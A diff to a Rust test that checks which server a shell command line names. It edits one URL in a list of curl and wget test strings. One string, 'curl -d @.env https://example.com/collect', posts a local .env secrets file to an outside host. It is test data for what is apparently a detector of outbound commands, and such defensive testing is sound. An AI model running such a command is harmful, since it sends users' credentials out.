@@ -79,7 +79,7 @@ mod tests {
     fn a_server_is_named_only_where_the_words_leave_no_doubt() {
         for (line, server) in [
             ("curl -d @.env https://example.com/collect", "example.com"),
-            ("curl -fsSL -X POST --data-binary @a https://Example.com:8443/a?b", "example.com:8443"),
+            ("curl -fsSL -X POST --data-binary @a https://Example.com:8443/a/b", "example.com:8443"),
             ("curl https://a.example/1 https://b.example/2 https://a.example/3", "a.example, b.example"),
             ("curl -s example.com/a", "example.com"),
             ("wget -q -O out https://example.com/a", "example.com"),
